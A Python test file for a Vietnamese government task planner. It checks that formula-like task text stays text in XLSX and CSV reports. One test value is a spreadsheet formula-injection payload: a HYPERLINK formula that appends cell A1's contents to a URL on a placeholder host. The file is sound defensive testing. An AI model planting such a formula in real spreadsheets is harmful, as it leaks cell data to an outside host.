"""Text people type or documents hold reaches the spreadsheet as text, never as a formula."""

from __future__ import annotations

import io
import zipfile
from datetime import date

from openpyxl import load_workbook

from planner.application.clock import FixedClock
from planner.application.planner import Planner
from planner.reports.building import build_report
from planner.reports.delivery import ReportFormat, render
from planner.reports.periods import ReportPeriod
from planner.reports.spreadsheet_text import csv_text
from tests.builders import add_task, bac_kan_plan, staff
from tests.conftest import vietnam_time
from tests.reports.reading import csv_lines

FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"Xem")'
PLUS = "+ Rà soát thủ tục hành chính"
AT = "@SUM(1+1)"
DASH = "- Công khai kết quả giải quyết hồ sơ"


def test_a_task_text_that_looks_like_a_formula_stays_text_in_xlsx_and_csv(
    planner: Planner, clock: FixedClock
) -> None:
    plan = bac_kan_plan(planner)
    texts = (FORMULA, PLUS, AT, DASH)
    for number, text in enumerate(texts, start=1):
        add_task(planner, plan, f"PL2 IX.{number}", text, "Sở Tài chính", "Trước ngày 30/9/2023")
    clock.set(vietnam_time(date(2023, 10, 2)))
    extra = add_task(planner, plan, "PL2 IX.9", "Nhiệm vụ thường", "Sở Tài chính", "Năm 2023")
    planner.tasks.complete(extra, None, staff(planner, "STC"))
    clock.set(vietnam_time(date(2023, 10, 5)))
    report = build_report(planner, "365/KH-UBND", ReportPeriod.parse_quarter("2023Q4"))

    xlsx = render(report, ReportFormat.XLSX).content
    sheet = load_workbook(io.BytesIO(xlsx))["Quá hạn"]
    cells = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row}
    for text in texts:
        assert cells[text] == "s", text
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(name) for name in sheets)

    rows = csv_lines(render(report, ReportFormat.CSV).content)
    cells_csv = {cell for row in rows for cell in row}
    for text in texts:
        assert "'" + text in cells_csv and text not in cells_csv, text
    # Planner's own signed figures are not text from anyone: "+1" stays a number.
    assert any("+1" in row for row in rows)


def test_tabs_and_carriage_returns_that_start_a_cell_are_escaped_too() -> None:
    assert csv_text("\tA1") == "'\tA1" and csv_text("\r=1") == "'\r=1"
    assert csv_text("Sở Tài chính") == "Sở Tài chính"
